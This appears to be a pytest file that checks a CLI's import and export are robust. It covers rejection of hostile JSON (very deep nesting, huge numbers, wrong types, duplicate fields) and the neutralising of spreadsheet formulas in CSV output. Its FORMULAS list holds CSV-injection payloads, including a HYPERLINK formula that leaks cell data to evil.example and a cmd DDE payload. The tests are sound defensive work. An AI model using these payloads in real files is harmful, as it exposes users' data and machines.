"""Files that try to hurt: JSON that is too deep, too long or of the wrong types, and names a
spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Sql
from tests.helpers import Cli

pytestmark = pytest.mark.backends

GOOD = {
    "customer": "Ann Lee",
    "reason": "billing",
    "resolved": True,
    "store": "North",
    "agent": "Jane",
    "at": "2026-05-01T10:00:00",
}


def json_file(tmp_path: Path, records: Any) -> Path:
    path = tmp_path / "in.json"
    path.write_text(records if isinstance(records, str) else json.dumps(records))
    return path


def refused(cli: Cli, path: Path, sql: Sql, *words: str) -> str:
    result = cli.fails("import", str(path), code=2)
    message = result.stderr.strip()
    assert len(message.splitlines()) == 1, message
    assert "in.json" in message
    for word in words:
        assert word in message, message
    assert int(sql.scalar("SELECT COUNT(*) FROM incident")) == 0
    return message


def test_deeply_nested_json_is_refused(cli: Cli, tmp_path: Path, sql: Sql) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    refused(cli, json_file(tmp_path, deep), sql, "nested")
    record = json.dumps(GOOD)[:-1] + ', "description": ' + "[" * 50_000 + "]" * 50_000 + "}"
    refused(cli, json_file(tmp_path, "[" + record + "]"), sql)


def test_a_5000_digit_number_is_refused(cli: Cli, tmp_path: Path, sql: Sql) -> None:
    text = "[" + json.dumps(GOOD)[:-1] + ', "id": ' + "9" * 5000 + "}]"
    refused(cli, json_file(tmp_path, text), sql, "5,000 digits")
    text = "[" + json.dumps(GOOD)[:-1] + ', "id": 1' + "0" * 400 + ".5}]"
    refused(cli, json_file(tmp_path, text), sql)


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("customer", 5, ("record 2", "column customer", "text, not a number")),
        ("customer", {"x": 1}, ("column customer", "not an object")),
        ("customer", ["Ann", "Lee"], ("column customer", "not a list")),
        ("store", 3.5, ("column store", "not a number")),
        ("agent", True, ("column agent", "not true or false")),
        ("reason", [], ("column reason", "not a list")),
        ("description", {"a": "b"}, ("column description",)),
        ("at", 1714557600, ("column at", "not a number")),
        ("resolved", "maybe", ("column resolved",)),
        ("resolved", 7, ("column resolved",)),
        ("resolved", [True], ("column resolved", "not a list")),
        ("id", [1], ("column id", "not a list")),
        ("contact", 447700900123, ("column contact", "not a number")),
    ],
)
def test_a_value_of_the_wrong_type_is_refused(
    cli: Cli, tmp_path: Path, sql: Sql, field: str, value: Any, words: tuple[str, ...]
) -> None:
    records = [dict(GOOD, customer="Bob"), dict(GOOD, **{field: value})]
    message = refused(cli, json_file(tmp_path, records), sql, *words)
    assert "record 2" in message


def test_resolved_as_json_true_or_0_and_1_still_imports(cli: Cli, tmp_path: Path) -> None:
    records = [dict(GOOD, resolved=0, at="2026-05-01T10:00:00"), dict(GOOD, resolved=1)]
    records[1]["at"] = "2026-05-02T10:00:00"
    cli("import", str(json_file(tmp_path, records)))
    assert sorted(r["resolved"] for r in cli("list", "--format", "json").json()) == [False, True]


def test_training_agents_must_be_names(cli: Cli, tmp_path: Path, sql: Sql) -> None:
    session = {"date": "2026-03-10", "topic": "Calm", "kind": "review", "minutes": 30}
    path = json_file(tmp_path, [dict(session, agents=["Jane", 5])])
    message = cli.fails("import", str(path), code=2).stderr
    assert "record 1, column agents" in message
    path = json_file(tmp_path, [dict(session, agents=["Jane", "Bob"], minutes=[30])])
    assert "column minutes" in cli.fails("import", str(path), code=2).stderr
    assert int(sql.scalar("SELECT COUNT(*) FROM training_session")) == 0


def test_a_field_given_twice_is_refused(cli: Cli, tmp_path: Path, sql: Sql) -> None:
    text = "[" + json.dumps(GOOD) + ", " + json.dumps(GOOD)[:-1] + ', "customer": "Eve"}]'
    refused(cli, json_file(tmp_path, text), sql, "record 2", '"customer" appears twice')


def test_nan_is_not_a_number_here(cli: Cli, tmp_path: Path, sql: Sql) -> None:
    text = "[" + json.dumps(GOOD)[:-1] + ', "id": NaN}]'
    refused(cli, json_file(tmp_path, text), sql, "NaN")


# --------------------------------------------------------------------------- formulas

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTab first",
    "'=already quoted",
]


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("redact", [False, True])
def test_formulas_are_defused_on_export(cli: Cli, redact: bool) -> None:
    for n, formula in enumerate(FORMULAS):
        cli.add(
            f"=Customer {n}" if not redact else f"Customer {n}",
            at=f"2026-05-0{n + 1} 10:00",
            description=formula,
            resolution=f"@{n}",
        )
    out = cli("export", *(["--redact"] if redact else [])).stdout
    for row in cells(out):
        for column in ("customer", "description", "resolution", "store", "agent", "contact"):
            value = row[column]
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, value)
    descriptions = [row["description"] for row in cells(out)]
    assert descriptions[0].startswith("'=HYPERLINK(")
    assert descriptions[1] == "'+cmd|' /C calc'!A0"
    assert descriptions[5] == "''=already quoted"
    if not redact:
        assert cells(out)[0]["customer"] == "'=Customer 0"


def test_store_agent_and_contact_formulas_are_defused_and_round_trip(
    cli: Cli, tmp_path: Path
) -> None:
    cli.add("Ann", store="=Store", agent="+Agent", contact="+44 7700 900123",
            description="-5 refund", at="2026-05-01 10:00", new_store=True)  # fmt: skip
    cli.add("Bob", description="'tis fine", resolution="'-x", at="2026-05-02 10:00")
    before = cli("list", "--format", "json").json()
    out = cli("export").stdout
    row = cells(out)[0]
    assert (row["store"], row["agent"], row["contact"]) == (
        "'=Store",
        "'+Agent",
        "'+44 7700 900123",
    )
    assert cells(out)[1]["description"] == "'tis fine"
    path = tmp_path / "out.csv"
    cli("export", "-o", str(path))
    target = str(tmp_path / "copy.db")
    cli("--db", target, "import", str(path), "--new-store", "--new-agent")
    after = cli("--db", target, "list", "--format", "json").json()
    assert after == before


def test_training_formulas_are_defused_and_round_trip(cli: Cli, tmp_path: Path) -> None:
    cli("training", "add", "--topic", "=1+1", "--kind", "review", "--minutes", "20",
        "--agents", "Jane", "--on", "2026-04-02", "--trainer", "@Rita")  # fmt: skip
    out = cli("export", "--kind", "training").stdout
    row = cells(out)[0]
    assert (row["topic"], row["trainer"]) == ("'=1+1", "'@Rita")
    path = tmp_path / "t.csv"
    path.write_text(out)
    target = str(tmp_path / "copy.db")
    cli("--db", target, "import", str(path), "--new-agent")
    listed = cli("--db", target, "training", "list", "-p", "2026", "--format", "json").json()
    assert (listed[0]["topic"], listed[0]["trainer"]) == ("=1+1", "@Rita")
